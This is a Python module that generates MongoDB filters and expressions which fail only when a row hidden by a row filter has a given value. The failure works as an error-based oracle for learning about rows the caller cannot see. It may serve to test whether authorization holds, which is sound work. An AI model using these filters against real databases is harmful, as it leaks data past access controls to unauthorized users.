"""Failing filters: filters and expressions that fail for one hidden row, and for no other.

MongoDB reorders the conditions of a filter. A condition of the caller that is evaluated before the
row filter also runs on hidden rows, and the failure of the request reveals something about them.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any, Final

# Each fails if the test is true.
_FAILING: Final[tuple[Callable[[Any], dict[str, Any]], ...]] = (
    lambda test: {"$divide": [1, {"$cond": [test, 0, 1]}]},
    lambda test: {"$toInt": {"$cond": [test, "x", "1"]}},
    lambda test: {"$arrayElemAt": [{"$cond": [test, 1, {"$literal": [1]}]}, 0]},
    lambda test: {"$sqrt": {"$cond": [test, -1, 1]}},
)
_NEVER: Final = {"_id": None}
# Forms that run before a row filter: `$or` before equality, each form before some others.
_FORMS: Final[tuple[Callable[[dict[str, Any]], dict[str, Any]], ...]] = (
    lambda condition: {"$or": [condition, _NEVER]},
    lambda condition: condition,
    lambda condition: {"$nor": [{"$or": [condition, _NEVER]}]},
    lambda condition: {"$and": [{"$or": [condition, _NEVER]}, {"_id": {"$ne": None}}]},
)


def build_failing_value(path: str, value: Any) -> dict[str, Any]:
    """Return an expression that fails for documents with that value at a path."""
    return _FAILING[0](_compare(path, value))


def build_failing_filters(path: str, value: Any) -> Iterator[dict[str, Any]]:
    """Yield filters that fail for documents with that value at a path; the likeliest first."""
    test = _compare(path, value)
    for form in _FORMS:
        yield form({"$expr": _FAILING[0](test)})
    for fail in _FAILING[1:]:
        yield _FORMS[0]({"$expr": fail(test)})


def _compare(path: str, value: Any) -> dict[str, Any]:
    return {"$eq": [f"${path}", {"$literal": value}]}
